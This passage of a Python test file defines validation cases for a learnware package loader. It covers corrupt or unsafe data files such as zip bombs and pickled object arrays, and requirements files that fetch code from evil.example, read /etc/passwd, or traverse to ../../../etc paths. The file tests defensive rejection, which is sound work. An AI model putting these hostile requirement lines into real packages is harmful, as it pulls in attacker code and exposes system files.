    Case("npy_junk", "user_data", "load_table", _write("j.npy", np.random.default_rng(1).bytes(300)),
         UserDataError, "user_data_corrupt", ("not a valid NPY",)),
    Case("object_array", "user_data", "load_table",
         _write("o.npy", _npy_bytes(np.array([1, "a", None], dtype=object), allow_pickle=True)), UserDataError,
         "user_data_dtype", ("object",)),
    Case("string_array", "user_data", "load_table", _write("u.npy", _npy_bytes(np.array(["a", "b"]))),
         UserDataError, "user_data_dtype", ("<U1",)),
    Case("complex_array", "user_data", "load_table", _write("c.npy", _npy_bytes(np.ones(3, dtype=complex))),
         UserDataError, "user_data_dtype", ("complex",)),
    Case("structured_array", "user_data", "load_table",
         _write("st.npy", _npy_bytes(np.zeros(3, dtype=[("a", "<f8")]))), UserDataError, "user_data_dtype",
         ("dtype",)),
    Case("scalar_npy", "user_data", "load_table", _write("sc.npy", _npy_bytes(np.float64(3.0))), UserDataError,
         "user_data_shape", ("single number",)),
    Case("npz_without_x", "user_data", "load_table", _npz_file("nox.npz", {"A.npy": _npy_bytes(_OK_X)}),
         UserDataError, "user_data_format", ("'X'", "nox.npz")),
    Case("npz_bomb", "user_data", "load_table", _npz_bomb, UserDataError, "user_data_too_large",
         ("bomb.npz", "limit")),
    Case("npz_forged_size", "user_data", "load_table", _npz_forged, UserDataError, "user_data_corrupt",
         ("impossible",)),
    Case("npz_object_member", "user_data", "load_table",
         _npz_file("obj.npz", {"X.npy": _npy_bytes(np.array([None, 1], dtype=object), allow_pickle=True)}),
         UserDataError, "user_data_dtype", ("object",)),
    Case("npz_many_members", "user_data", "load_table",
         _npz_file("many.npz", {f"a{i}.npy": b"" for i in range(100)} | {"X.npy": _npy_bytes(_OK_X)}),
         UserDataError, "user_data_format", ("members",)),
    Case("npz_junk", "user_data", "load_table", _write("j.npz", np.random.default_rng(2).bytes(300)),
         UserDataError, "user_data_corrupt", ("j.npz",)),
    Case("npz_bad_labels", "user_data", "load_table",
         _npz_file("y.npz", {"X.npy": _npy_bytes(_OK_X), "y.npy": _npy_bytes(np.arange(3))}), UserDataError,
         "user_data_labels", ("3 labels", "4 rows"), {"labelled": True}),
    Case("labelled_npy", "user_data", "load_table", _write("x.npy", _npy_bytes(_OK_X)), UserDataError,
         "user_data_labels", ("no labels",), {"labelled": True}),
    Case("parquet", "user_data", "load_table", _write("x.parquet", b"PAR1\0\0\0\0PAR1"), UserDataError,
         "user_data_format", (".parquet",)),
    Case("missing_file", "user_data", "load_table", lambda d: d / "nope.csv", UserDataError, "user_data_missing",
         ("nope.csv",)),
]

# ------------------------------------------------------------------------------------------------ requirements
def _reqs(text: str | bytes, name: str = "requirements.txt") -> Build:
    """A valid package whose requirements file (or conda environment) is hostile."""
    return lambda d: package(d / "lw.zip", replace={name: text})


_REQ = "requirements_disallowed"
REQUIREMENTS = [
    Case("editable_vcs", "requirements", "open_learnware", _reqs("numpy\n-e git+https://evil.example/x.git#egg=x\n"),
         InvalidPackageError, _REQ, ("requirements.txt", "pip options")),
    Case("extra_index_url", "requirements", "open_learnware",
         _reqs("--extra-index-url https://evil.example/simple\nnumpy\n"), InvalidPackageError, _REQ,
         ("pip options",)),
    Case("nested_requirements_file", "requirements", "open_learnware", _reqs("-r /etc/passwd\n"),
         InvalidPackageError, _REQ, ("pip options",)),
    Case("direct_url_reference", "requirements", "open_learnware",
         _reqs("evil @ https://evil.example/evil-1.0-py3-none-any.whl\n"), InvalidPackageError, _REQ, ("URLs",)),
    Case("local_path", "requirements", "open_learnware", _reqs("../../../etc/secret.tar.gz\n"),
         InvalidPackageError, _REQ, ("local paths",)),
    Case("line_too_long", "requirements", "open_learnware", _reqs("numpy" + "=" * 2000 + "1\n"),
         InvalidPackageError, _REQ, ("longer than",)),
    Case("file_too_large", "requirements", "open_learnware", _reqs("# pad\n" * 60_000 + "numpy\n"),
         InvalidPackageError, _REQ, ("requirements.txt", "limit")),
    Case("not_utf8", "requirements", "open_learnware", _reqs(b"numpy\n\xff\xfe\xfa\n" * 1 + b"\xc3\x28\n"),
         InvalidPackageError, _REQ, ("UTF-8",)),
    Case("unparsable_line", "requirements", "open_learnware", _reqs("numpy[=1.0\n"), InvalidPackageError, _REQ,
         ("not a valid requirement",)),
    Case("conda_not_a_mapping", "requirements", "open_learnware", _reqs("- numpy\n- scipy\n", "environment.yaml"),
         InvalidPackageError, _REQ, ("environment.yaml", "dependencies")),
    Case("conda_pip_url", "requirements", "open_learnware",
         _reqs("dependencies:\n  - python=3.11\n  - pip:\n    - git+https://evil.example/x.git\n",
               "environment.yaml"), InvalidPackageError, _REQ, ("environment.yaml", "URLs")),
    Case("conda_deep_yaml", "requirements", "open_learnware",
         _reqs("dependencies: " + "[" * 5000 + "]" * 5000 + "\n", "environment.yaml"), InvalidPackageError, _REQ,
         ("environment.yaml",)),
]


#: Every case, in category order.
CASES: list[Case] = ARCHIVE + MANIFEST_CASES + REQUIREMENTS + STAT + SEMANTIC + USER
